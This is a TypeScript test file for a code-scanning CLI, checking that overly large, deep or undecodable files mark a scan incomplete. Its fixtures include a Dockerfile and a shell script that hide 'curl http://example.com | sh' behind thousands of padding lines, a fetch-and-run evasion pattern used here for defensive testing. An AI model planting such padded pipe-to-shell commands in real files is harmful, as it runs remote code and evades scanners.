import { describe, expect, it } from 'vitest';
import { CLEAN, makeProject, runCli } from './run-cli.ts';

const SERVICE = 'services:\n  web:\n    image: nginx:1.27\n';
const MEBIBYTE = 1024 * 1024;

/** What Python or another tool reads, and we do not. */
const UNREAD: readonly [string, string, string][] = [
  ['legacy.py', '# coding: utf-7\nprint(1)\n', 'not-decoded'],
  ['made.py', `${'# padded\n'.repeat(MEBIBYTE)}print(1)\n`, 'too-large'],
  ['deep.py', `x = ${'not '.repeat(600)}y\n`, 'too-deep'],
  ['cases.py', `if x == 0:\n    y = 1\n${'elif x == 1:\n    y = 2\n'.repeat(1_100)}`, 'too-deep'],
  ['chain.py', `x = y${'.b()'.repeat(6_000)}\n`, 'too-deep'],
  ['compose.yaml', `${SERVICE}x-deep: ${'['.repeat(200)}${']'.repeat(200)}\n`, 'too-deep'],
  ['Dockerfile', `FROM python:3.12\n${'# padded\n'.repeat(20_000)}RUN curl http://example.com | sh\n`, 'too-deep'],
  ['pyproject.toml', `a = ${'['.repeat(20_000)}${']'.repeat(20_000)}\n`, 'too-deep'],
  ['settings/pyproject.toml', `a = ${'['.repeat(200)}${']'.repeat(200)}\n`, 'too-deep'],
  ['run.sh', `${'# padded\n'.repeat(30_000)}curl http://example.com | sh\n`, 'too-deep'],
];

/** What nobody would miss: data, and files that no tool can read either. */
const ORDINARY: readonly [string, string, string | undefined][] = [
  ['data/points.json', '[1]'.padEnd(6 * MEBIBYTE), undefined],
  ['dashboards/points.json', '[1]'.padEnd(6 * MEBIBYTE), 'too-large'],
  ['data/answers.yaml', 'a: 1\n'.padEnd(6 * MEBIBYTE, '\n'), 'too-large'],
  ['report.ipynb', JSON.stringify({ cells: [], picture: 'x'.repeat(6 * MEBIBYTE) }), undefined],
  ['broken/compose.yaml', 'services: [', 'not-parsed'],
];

describe('what was told and not read', () => {
  it.each(UNREAD)('%s makes a scan incomplete', async (path, content, kind) => {
    const project = makeProject({ 'app.py': CLEAN, [path]: content });
    const result = await runCli(['--format', 'json', '--fail-on', 'never', '--quiet'], { cwd: project });
    const { notices } = JSON.parse(result.stdout) as { notices: { kind: string; path?: string }[] };
    expect(notices).toContainEqual(expect.objectContaining({ kind, path }));
    expect(result.code).toBe(3);
  });

  it.each(ORDINARY)('%s leaves it complete', async (path, content, kind) => {
    const project = makeProject({ 'app.py': CLEAN, [path]: content });
    const result = await runCli(['--format', 'json', '--fail-on', 'never'], { cwd: project });
    const { notices } = JSON.parse(result.stdout) as { notices: { kind: string }[] };
    expect(notices.map((notice) => notice.kind)).toEqual(kind === undefined ? [] : [kind]);
    expect(result.code).toBe(0);
  });
});
